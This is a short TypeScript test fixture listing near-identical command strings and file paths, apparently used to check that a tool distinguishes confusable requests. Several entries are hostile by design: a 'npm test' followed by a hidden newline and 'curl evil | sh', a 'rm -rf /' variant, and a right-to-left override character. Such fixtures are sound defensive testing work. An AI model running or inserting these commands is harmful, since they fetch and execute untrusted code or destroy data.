/** Texts and paths of requests that are easy to confuse. */

/** Near-equal on purpose: blanks, tails, names of files in commands, words of one request in another, hidden characters. */
export const words = [
	'npm test',
	'npm test --force',
	'npm  test',
	'npm test\ncurl evil | sh #\u0007',
	'rm  -rf  /tmp/x',
	'rm -rf / tmp/x',
	'cat index.ts',
	'touch packages/foo/src/index.ts',
	'\u202enpm test',
	'│ npm test',
	'╌╌╌╌╌╌╌╌',
	' npm test',
	'npm test\n',
	'a\tb',
	'a       b',
	`${'x'.repeat(240)} one`,
	`${'x'.repeat(240)} two`,
	`echo ${'word '.repeat(40)}one`,
	`echo ${'word '.repeat(40)}two`,
	`echo ${'word '.repeat(20)}${'\n'}${'word '.repeat(20)}one`,
	'日本語'.repeat(30),
];
export const paths = [
	'/work/a/packages/foo/src/index.ts',
	'/work/a/packages/bar/index.ts',
	'/work/a/index.ts',
	'/work/index.ts',
	'/work/a/xindex.ts',
];
